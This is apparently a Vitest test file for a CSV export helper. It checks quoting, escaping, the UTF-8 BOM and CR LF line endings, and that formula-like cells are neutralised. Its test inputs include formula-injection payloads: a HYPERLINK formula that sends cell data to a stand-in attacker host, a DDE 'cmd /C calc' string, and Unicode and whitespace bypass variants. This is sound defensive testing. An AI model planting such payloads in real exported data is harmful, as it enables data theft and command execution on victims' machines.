import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from '#server/registers/register-file.ts';

describe('a CSV cell', () => {
  it.each([
    ['plain words', 'Amberlock Systems', '"Amberlock Systems"'],
    ['nothing', '', '""'],
    ['commas and line breaks', 'Mill Lane,\r\nHarrowmere', '"Mill Lane,\r\nHarrowmere"'],
    ['quotation marks', 'The "London" office', '"The ""London"" office"'],
    ['letters beyond ASCII', 'Café Żółw – 株式会社', '"Café Żółw – 株式会社"'],
    ['a minus sign that is not at the start', 'Tier 1 - 3', '"Tier 1 - 3"'],
  ])('keeps %s', (_what, value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it.each([
    ...['=1+1', '=HYPERLINK("https://evil.example?"&A1,"Open")', '+44 1632 960100'],
    ...['-2+3+cmd|" /C calc"!A0', '@SUM(A1:A9)', ' =1+1', '\u00a0=1+1', '\t=1+1', '\r=1+1', '\nplain'],
    ...['\ufeff=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
  ])('never starts as a formula: %j', (value) => {
    expect(csvCell(value)).toBe(`"'${value.replaceAll('"', '""')}"`);
  });
});

it('CSV is UTF-8 with a BOM and ends each line with CR LF', () => {
  expect(
    csvText([
      ['Name', 'Level'],
      ['A, B', ''],
    ]),
  ).toBe('\ufeff"Name","Level"\r\n"A, B",""\r\n');
});
